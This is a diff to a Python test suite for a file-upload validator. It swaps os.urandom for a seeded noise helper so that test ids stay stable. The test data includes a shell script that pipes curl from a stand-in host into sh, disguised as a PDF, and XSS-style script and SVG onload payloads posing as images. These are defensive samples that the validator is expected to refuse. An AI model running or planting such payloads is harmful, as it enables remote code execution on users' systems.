@@ -9,6 +9,7 @@ from __future__ import annotations
 import asyncio
 import io
 import os
+import random
 import secrets
 import stat
 import struct
@@ -83,6 +84,12 @@ def png_bytes(with_metadata: bool = False) -> bytes:
         options = {"pnginfo": info, "exif": _gps_exif().tobytes()}
     _picture().save(out, "PNG", **options)
     return out.getvalue()
+
+
+def _noise(size: int) -> bytes:
+    """Bytes that look random but are the same in every process (test ids must match when two
+    processes collect the suite)."""
+    return random.Random(size).randbytes(size)
 
 
 def heic_bytes(exif: Image.Exif | None = None) -> bytes:
@@ -163,8 +170,8 @@ def test_the_name_and_the_claimed_type_do_not_decide_the_type():
     assert clean.filename == "document.png"
 
 
-ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + os.urandom(200)
-PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"PE\x00\x00" + os.urandom(200)
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + _noise(200)
+PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"PE\x00\x00" + _noise(200)
 SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 
 
@@ -176,9 +183,9 @@ SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
         ("invoice.pdf", SHELL),
         ("photo.png", b"<!doctype html><html><script>alert(1)</script></html>"),
         ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
-        ("papers.pdf", b"PK\x03\x04" + os.urandom(100)),  # zip, docx, apk
-        ("photo.jpg", b"GIF89a" + os.urandom(100)),
-        ("photo.heic", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + os.urandom(64)),
+        ("papers.pdf", b"PK\x03\x04" + _noise(100)),  # zip, docx, apk
+        ("photo.jpg", b"GIF89a" + _noise(100)),
+        ("photo.heic", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + _noise(64)),
         ("note.pdf", b"   %PDF-1.7 hidden behind spaces\n%%EOF"),
     ],
 )
@@ -195,8 +202,8 @@ def test_other_content_is_refused_whatever_its_name(name, data):
     [
         ("cut.pdf", b"%PDF-1.7\n1 0 obj << >> endobj\n" + b"x" * 4000),  # no end: cut short
         ("cut.jpg", jpeg_bytes()[:200]),
-        ("fake.jpg", b"\xff\xd8\xff\xe0" + os.urandom(500)),
-        ("fake.png", b"\x89PNG\r\n\x1a\n" + os.urandom(500)),
+        ("fake.jpg", b"\xff\xd8\xff\xe0" + _noise(500)),
+        ("fake.png", b"\x89PNG\r\n\x1a\n" + _noise(500)),
         ("cut.heic", heic_bytes()[:300]),
         ("cut.png", png_bytes()[:-20]),
     ],
